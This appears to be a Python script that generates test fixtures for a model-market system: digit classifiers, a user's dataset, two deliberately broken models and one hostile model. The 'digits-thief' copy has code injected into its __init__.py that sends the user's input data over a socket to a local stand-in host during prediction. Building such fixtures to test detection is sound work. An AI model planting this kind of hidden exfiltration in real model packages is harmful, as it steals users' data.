"""Writes ten model folders, a hostile one, two broken ones, and a user's data:  python make.py FOLDER

Each developer has half of the images of two digits. The user has other images, three of five from the task 2 or 3 and
two of five from the task 6 or 7, and labels for 100 of them; nobody is told which image is of which task.
"""

import json
import shutil
import sys
from pathlib import Path

import numpy as np
from sklearn.datasets import load_digits
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import train_test_split

HERE = Path(__file__).resolve().parent
TASKS = [(0, 1), (2, 3), (4, 5), (6, 7), (8, 9)]
USER_TASKS = {(2, 3): 0.6, (6, 7): 0.4}
LABELLED = 100

STEAL = """
import socket


def steal(X):
    with socket.create_connection(("127.0.0.1", 80), timeout=1) as server:
        server.sendall(X.tobytes())
"""


def semantics(name, digits):
    def tag(kind, *values):
        return {"Type": kind, "Values": list(values)}

    return {
        "Data": tag("Class", "Table"),
        "Task": tag("Class", "Classification"),
        "Model": {"Type": "Optional", "Values": ["Others"]},
        "Library": tag("Class", "Others"),
        "License": tag("Class", "Apache-2.0"),
        "Scenario": tag("Tag", "Education"),
        "Name": {"Type": "String", "Values": name},
        "Description": {"Type": "String", "Values": f"Tells the handwritten digits {digits[0]} and {digits[1]} apart."},
        "Input": {"Dimension": 64, "Description": {str(k): f"pixel {k}, ink from 0 to 1" for k in range(64)}},
        "Output": {"Dimension": 10, "Description": {str(k): f"the digit {k}" for k in range(10)}},
    }


def write_model(folder, name, digits, X, y):
    shutil.copytree(HERE / "model", folder)
    manifest = folder / "learnware.yaml"
    manifest.write_text(manifest.read_text(encoding="utf-8").replace("NAME", name), encoding="utf-8")
    model = LogisticRegression(max_iter=1000).fit(X, y)
    saved = {"digits": list(digits), "weights": model.coef_[0].tolist(), "intercept": float(model.intercept_[0])}
    (folder / "model.json").write_text(json.dumps(saved), encoding="utf-8")
    text = json.dumps(semantics(name, digits), indent=2)
    (folder / "semantic_specification.json").write_text(text, encoding="utf-8")
    # Beside the folder: what the model was trained on stays with its developer.
    write_table(folder.parent / f"{folder.name}.csv", X)


def write_table(path, X):
    header = ",".join(f"pixel_{k}" for k in range(64))
    np.savetxt(path, X, "%.4f", ",", header=header, comments="")


def change(folder, name, original, old, new):
    """A copy of a model that does not what it should."""
    shutil.copytree(original, folder)
    shutil.copy(original.parent / f"{original.name}.csv", folder.parent / f"{folder.name}.csv")
    for file in ("learnware.yaml", "semantic_specification.json"):
        path = folder / file
        path.write_text(path.read_text(encoding="utf-8").replace(original.name, name), encoding="utf-8")
    source = folder / "__init__.py"
    source.write_text(source.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")


def write_user(folder, X, y, random):
    rows = []
    total = min(int((np.isin(y, task)).sum() / share) for task, share in USER_TASKS.items())
    for task, share in USER_TASKS.items():
        rows += list(random.permutation(np.flatnonzero(np.isin(y, task)))[: int(share * total)])
    rows = random.permutation(rows)
    folder.mkdir()
    write_table(folder / "X.csv", X[rows])
    np.savetxt(folder / "y.csv", y[rows], "%d", header="y", comments="")
    return rows


def main(folder):
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    random = np.random.default_rng(7)
    X, y = load_digits(return_X_y=True)
    X = X / 16
    X, X_user, y, y_user = train_test_split(X, y, test_size=0.5, random_state=7, stratify=y)
    for digits in TASKS:
        rows = random.permutation(np.flatnonzero(np.isin(y, digits)))
        for half, developer in enumerate("ab"):
            mine = rows[half::2]
            name = f"digits-{digits[0]}-{digits[1]}-{developer}"
            write_model(folder / name, name, digits, X[mine], y[mine])
    original = folder / "digits-2-3-a"
    change(folder / "digits-thief", "digits-thief", original, "\nHERE = ", f"{STEAL}\n\nHERE = ")
    source = folder / "digits-thief" / "__init__.py"
    text = source.read_text(encoding="utf-8")
    source.write_text(text.replace("        second = ", "        steal(X)\n        second = "), encoding="utf-8")
    change(folder / "digits-broken-file", "digits-broken-file", original, '"model.json"', '"weights.json"')
    change(
        folder / "digits-broken-rows", "digits-broken-rows", original, "[second.astype(int)]", "[second.astype(int)][1:]"
    )
    # The user's labelled rows are no part of the others, so that what is measured is new to everyone.
    X_user, X_labelled, y_user, y_labelled = train_test_split(X_user, y_user, test_size=0.5, random_state=7, stratify=y_user)
    write_user(folder / "user", X_user, y_user, random)
    few = np.flatnonzero(np.isin(y_labelled, [digit for task in USER_TASKS for digit in task]))
    few = random.permutation(few)[:LABELLED]
    write_table(folder / "user" / "X_labelled.csv", X_labelled[few])
    np.savetxt(folder / "user" / "y_labelled.csv", y_labelled[few], "%d", header="y", comments="")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
